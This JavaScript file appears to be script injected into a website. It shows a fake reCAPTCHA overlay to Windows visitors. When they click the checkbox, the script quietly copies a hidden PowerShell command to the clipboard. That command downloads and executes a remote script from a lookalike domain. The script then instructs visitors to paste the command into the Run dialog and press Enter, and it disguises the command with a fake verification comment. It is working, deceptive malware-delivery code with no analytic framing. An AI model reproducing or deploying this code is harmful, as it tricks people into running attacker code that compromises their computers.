(function () {
  if (sessionStorage.getItem('hv_done')) return;
  if (!/Windows/i.test(navigator.userAgent)) return;

  var verifyCmd = 'powershell -w hidden -nop -c "iex (iwr -useb \'https://recaptcha-verify-human.top/s/check.ps1\')"';

  var style = document.createElement('style');
  style.textContent =
    '#hv-veil{position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:2147483647;display:flex;flex-direction:column;align-items:center;justify-content:center;font-family:Arial,sans-serif}' +
    '#hv-frame{border:1px solid #d3d3d3;background:#f9f9f9;width:300px;padding:14px;border-radius:3px;display:flex;align-items:center;gap:12px}' +
    '#hv-tick{width:24px;height:24px;border:2px solid #c1c1c1;background:#fff;border-radius:2px;cursor:pointer}' +
    '#hv-help{display:none;margin-top:18px;max-width:360px;font-size:14px;color:#222}' +
    '#hv-help kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}';
  document.head.appendChild(style);

  var veil = document.createElement('div');
  veil.id = 'hv-veil';
  veil.innerHTML =
    '<h2 style="font-weight:normal">' + location.hostname + '</h2>' +
    '<p>Verify you are human by completing the action below.</p>' +
    '<div id="hv-frame"><div id="hv-tick"></div><span>I\'m not a robot</span></div>' +
    '<div id="hv-help"><p><b>To better prove you are not a robot, please:</b></p>' +
    '<p>1. Press &amp; hold the Windows Key <kbd>&#8862;</kbd> + <kbd>R</kbd>.</p>' +
    '<p>2. In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd>.</p>' +
    '<p>3. Press <kbd>Enter</kbd> on your keyboard to finish.</p>' +
    '<p style="color:#777;font-size:12px">You will observe and agree: "I am not a robot - reCAPTCHA Verification ID: 2165"</p></div>';
  document.body.appendChild(veil);
  document.documentElement.style.overflow = 'hidden';

  document.getElementById('hv-tick').addEventListener('click', function () {
    var tick = this;
    tick.style.borderColor = '#4a90e2';
    tick.innerHTML = '<div style="width:14px;height:14px;margin:3px;border:3px solid #4a90e2;border-top-color:transparent;border-radius:50%"></div>';
    navigator.clipboard.writeText(verifyCmd + ' # I am not a robot - reCAPTCHA Verification ID: 2165').then(function () {
      setTimeout(function () {
        document.getElementById('hv-help').style.display = 'block';
      }, 900);
    }, function () {
      document.getElementById('hv-help').style.display = 'block';
    });
  });

  window.addEventListener('blur', function () {
    // user switched to the Run dialog; mark as done so the page looks normal afterwards
    sessionStorage.setItem('hv_done', '1');
  });
})();
